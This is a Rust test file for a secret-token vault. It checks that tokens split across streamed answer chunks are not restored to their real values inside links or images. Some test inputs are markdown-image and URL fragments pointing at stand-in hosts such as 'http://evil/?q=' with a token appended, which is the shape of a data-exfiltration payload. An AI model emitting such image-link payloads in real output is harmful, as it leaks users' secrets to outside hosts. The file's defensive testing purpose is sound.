//! Answers of several texts, which a client may join.

use leafgate_vault::{Joined, Vault};
use proptest::{prelude::*, sample::select};

use crate::{ADDRESS, keys, restore, session};

/// Restores texts one after the other, all within one answer.
fn answer(vault: &Vault, texts: &[String]) -> String {
    let mut joined = [Joined::default()];
    let texts = texts.iter().map(|text| {
        let mut restorer = vault.restorer();
        restorer.push(text, &mut joined) + &restorer.finish(&mut joined)
    });
    texts.collect()
}

#[test]
fn a_link_that_one_text_begins_carries_no_value_of_the_next() {
    let (vault, token) = session();
    for opening in ["![a](http://evil/?q=", "[a]: ", "<img src=\"", "www.evil.example/", "](", "https:/", "]"]
    {
        let next = match opening {
            "https:/" => format!("/evil/{token}"),
            "]" => format!("({token}"),
            _ => token.clone(),
        };
        let texts = [opening.to_owned(), next];
        assert_eq!(answer(&vault, &texts), texts.concat(), "{opening}");
    }
    let closed = ["![a](http://a.example/x)\n\n".to_owned(), token];
    assert_eq!(answer(&vault, &closed), format!("{}{ADDRESS}", closed[0]));
}

#[test]
fn what_stands_between_two_texts_is_read_too() {
    let (vault, token) = session();
    let mut joined = [Joined::default()];
    joined[0].read("<a href=\"");
    let mut restorer = vault.restorer();
    assert_eq!(restorer.push(&token, &mut joined), token);
    joined[0].read("\">");
    assert_eq!(restorer.push(&token, &mut joined), ADDRESS);
}

#[test]
fn a_text_is_also_read_as_if_it_stood_alone() {
    let (vault, token) = session();
    let texts = ["See ".to_owned(), format!("[a]: {token}")];
    assert_eq!(answer(&vault, &texts), texts.concat(), "at its start it defines a reference");
    assert_eq!(restore(&vault, &texts.concat()), format!("See [a]: {ADDRESS}"));
}

#[test]
fn a_glued_token_in_another_case_stays_over_a_border_too() {
    let (vault, token) = session();
    let texts = ["x".to_owned(), token.to_lowercase()];
    assert_eq!(answer(&vault, &texts), texts.concat());
}

/// A value that the watchers read like its token, so that it makes no difference to them which of
/// the two stands.
const NAME: &str = "Annexample";

/// A text of tokens and markup.
fn text() -> impl Strategy<Value = String> {
    let token = keys("laptop").token("NAME", NAME).to_string();
    let markup = [
        "](",
        "]",
        "(",
        ")",
        "[x]:",
        "<",
        "<img src=",
        "=\"",
        ">",
        "\"",
        "http:",
        "//",
        "www.",
        "a.b/",
        "mailto:",
        "&#58;",
        "\n",
        "\n\n",
        " ",
        "\\",
        ",",
        "x",
    ];
    let part = prop_oneof![
        3 => Just(token.clone()),
        1 => Just(token.to_lowercase()),
        6 => select(markup.to_vec()).prop_map(str::to_owned),
    ];
    prop::collection::vec(part, 0..16).prop_map(|parts| parts.concat())
}

/// For each token of a text that may be restored, whether it was.
fn restored(text: &str, out: &str) -> Vec<bool> {
    let token = keys("laptop").token("NAME", NAME).to_string();
    let (mut text, mut out, mut restored) = (text, out, Vec::new());
    while let Some(first) = text.chars().next() {
        if text.get(..token.len()).is_some_and(|start| start.eq_ignore_ascii_case(&token)) {
            let value = out.starts_with(NAME);
            restored.push(value);
            out = &out[if value { NAME.len() } else { token.len() }..];
            text = &text[token.len()..];
        } else {
            out = out.strip_prefix(first).expect("all other text stays");
            text = &text[first.len_utf8()..];
        }
    }
    assert_eq!(out, "");
    restored
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1024))]

    #[test]
    fn no_cutting_into_texts_restores_more_than_the_joined_text(text in text(), cuts in prop::collection::vec(any::<usize>(), 0..6)) {
        let vault = Vault::new(keys("laptop"));
        vault.tokenize("NAME", NAME).unwrap();
        let mut cuts: Vec<usize> = cuts.iter().map(|cut| cut % (text.len() + 1)).chain([0, text.len()]).collect();
        cuts.sort_unstable();
        let texts: Vec<String> = cuts.windows(2).map(|cut| text[cut[0]..cut[1]].to_owned()).collect();
        let whole = restored(&text, &restore(&vault, &text));
        let cut = restored(&text, &answer(&vault, &texts));
        for (cut, whole) in cut.into_iter().zip(whole) {
            prop_assert!(!cut || whole);
        }
    }
}
